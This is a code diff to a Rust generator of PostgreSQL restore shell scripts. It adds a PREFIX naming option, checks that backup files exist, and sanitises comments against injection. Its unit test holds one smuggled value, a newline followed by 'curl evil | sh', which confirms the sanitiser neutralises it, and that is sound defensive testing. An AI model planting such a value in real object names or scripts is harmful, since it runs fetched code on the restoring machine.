@@ -7,11 +7,12 @@ use fleet::founders::{DatabasePlan, LARGE_OBJECT_PIECE, TablePlan, What};
 use crate::manifest::{FileEntry, Manifest, ShardPart};
 
 const HEADER: &str = "\
-# Run it with sh, in a directory that holds all files of the backup, as a role that may create databases:
-#   TARGET=new_name sh RESTORE.txt
+# Run it with sh, in the directory that holds all files of the backup, as a superuser. A database gets its own name
+# again; PREFIX=new_ sh RESTORE.txt puts that before each name, and where there is only one, TARGET=name names it.
 # PGHOST, PGPORT, PGUSER and PGPASSWORD say where, as for any program of PostgreSQL. It needs createdb, pg_restore, psql
 # and zstd. The roles and tablespaces named below have to exist before.
 set -eu
+cd \"$(dirname \"$0\")\"
 export PGCLIENTENCODING=UTF8
 run() { psql -X -q -v ON_ERROR_STOP=1 -d \"$TARGET\" \"$@\"; }
 rows() { zstd -dc -- \"$1\" | run -c \"$2\"; }
@@ -20,38 +21,28 @@ rows() { zstd -dc -- \"$1\" | run -c \"$2\"; }
 /// The text for a backup in `subdir`.
 pub(crate) fn text(manifest: &Manifest, subdir: &str) -> String {
     let mut out = format!("# Backup {subdir}, made by job {}.\n{HEADER}", manifest.job);
+    let files = manifest.shards.iter().flat_map(|shard| shard.files.iter().chain(&shard.schemas));
+    for file in files {
+        // Before anything is made.
+        out.push_str(&format!("test -f {}\n", shell(&file.path)));
+    }
+    let count: usize = manifest.shards.iter().map(|shard| shard.databases.len()).sum();
     for shard in &manifest.shards {
         for database in &shard.databases {
-            one(&mut out, shard, database);
+            one(&mut out, shard, database, count == 1);
         }
     }
     out
 }
 
-fn one(out: &mut String, shard: &ShardPart, database: &DatabasePlan) {
+fn one(out: &mut String, shard: &ShardPart, database: &DatabasePlan, alone: bool) {
     let mut line = |text: String| {
         out.push_str(&text);
         out.push('\n');
     };
-    line(format!("\n# Database {} of shard {}, as of {}.", database.name, shard.shard, shard.point.time));
-    if !database.roles.is_empty() {
-        line(format!("# Roles: {}", database.roles.join(", ")));
-    }
-    if !database.tablespaces.is_empty() {
-        line(format!("# Tablespaces: {}", database.tablespaces.join(", ")));
-    }
-    for (name, version) in &database.extensions {
-        line(format!("# Extension: {name} {version}"));
-    }
-    for skipped in &database.skipped {
-        line(format!("# Left out: {} {}: {}.", skipped.kind, skipped.object, skipped.reason));
-    }
-    for file in shard.files.iter().chain(&shard.schemas).filter(|file| file.database == database.name) {
-        if let Some(node) = file.node {
-            line(format!("# {} is in the external I/O directory of node {node}.", file.path));
-        }
-    }
-    line(format!("TARGET=${{TARGET:-{}}}", shell(&database.name)));
+    about(&mut line, shard, database);
+    let own = shell(&database.name);
+    line(if alone { format!("TARGET=${{TARGET:-${{PREFIX:-}}{own}}}") } else { format!("TARGET=${{PREFIX:-}}{own}") });
     line(format!(
         "createdb -T template0 -E {} --lc-collate={} --lc-ctype={} -- \"$TARGET\"",
         shell(&database.encoding),
@@ -80,7 +71,52 @@ fn one(out: &mut String, shard: &ShardPart, database: &DatabasePlan) {
         let name = format!("{}.{}", identifier(&view.schema), identifier(&view.name));
         line(format!("run -c {}", shell(&format!("REFRESH MATERIALIZED VIEW {name}"))));
     }
+    properties(&mut line, database);
     line("run -c ANALYZE\nunset TARGET".to_owned());
+}
+
+/// What there is to know before.
+fn about(line: &mut impl FnMut(String), shard: &ShardPart, database: &DatabasePlan) {
+    line(String::new());
+    line(comment(&format!("Database {} of shard {}, as of {}.", database.name, shard.shard, shard.point.time)));
+    if !database.roles.is_empty() {
+        line(comment(&format!("Roles: {}", database.roles.join(", "))));
+    }
+    if !database.tablespaces.is_empty() {
+        line(comment(&format!("Tablespaces: {}", database.tablespaces.join(", "))));
+    }
+    for (name, version) in &database.extensions {
+        line(comment(&format!("Extension: {name} {version}")));
+    }
+    for skipped in &database.skipped {
+        line(comment(&format!("Left out: {} {}: {}.", skipped.kind, skipped.object, skipped.reason)));
+    }
+    for file in shard.files.iter().chain(&shard.schemas).filter(|file| file.database == database.name) {
+        if let Some(node) = file.node {
+            line(comment(&format!("{} is in the external I/O directory of node {node}.", file.path)));
+        }
+    }
+}
+
+/// What belongs to the database itself.
+fn properties(line: &mut impl FnMut(String), database: &DatabasePlan) {
+    for setting in &database.settings {
+        let Some((name, value)) = setting.split_once('=') else { continue };
+        let set = format!(
+            "DO $do$ BEGIN EXECUTE format('ALTER DATABASE %I SET %s = %L', current_database(), {}, {}); END $do$",
+            literal(name),
+            literal(value)
+        );
+        line(format!("run -c {}", shell(&set)));
+    }
+    if let Some(text) = &database.comment {
+        let note = format!(
+            "DO $do$ BEGIN EXECUTE format('COMMENT ON DATABASE %I IS %L', current_database(), {}); END $do$",
+            literal(text)
+        );
+        line(format!("run -c {}", shell(&note)));
+    }
+    line(comment(&format!("Its owner was {}; its privileges: {:?}.", database.owner, database.acl)));
 }
 
 fn load(file: &FileEntry, database: &DatabasePlan) -> Option<String> {
@@ -129,6 +165,12 @@ fn large_objects<'f>(line: &mut impl FnMut(String), files: impl Iterator<Item = 
     line("run -c 'DROP TABLE backhaul_objects, backhaul_pieces'".to_owned());
 }
 
+/// A comment for sh. Names of objects are anybody's, and one with a line break in it must not become a command.
+fn comment(text: &str) -> String {
+    let plain = text.chars().map(|c| if c.is_control() { '?' } else { c });
+    format!("# {}", plain.collect::<String>())
+}
+
 /// A word for sh.
 fn shell(text: &str) -> String {
     format!("'{}'", text.replace('\'', "'\\''"))
@@ -140,4 +182,16 @@ fn identifier(name: &str) -> String {
 
 fn literal(text: &str) -> String {
     format!("'{}'", text.replace('\'', "''"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn names_stay_words_and_comments() {
+        assert_eq!(comment("Left out: table x\ncurl evil | sh"), "# Left out: table x?curl evil | sh");
+        assert_eq!(shell("it's $HOME"), "'it'\\''s $HOME'");
+        assert_eq!((identifier("a\"b"), literal("a'b")), ("\"a\"\"b\"".to_owned(), "'a''b'".to_owned()));
+    }
 }
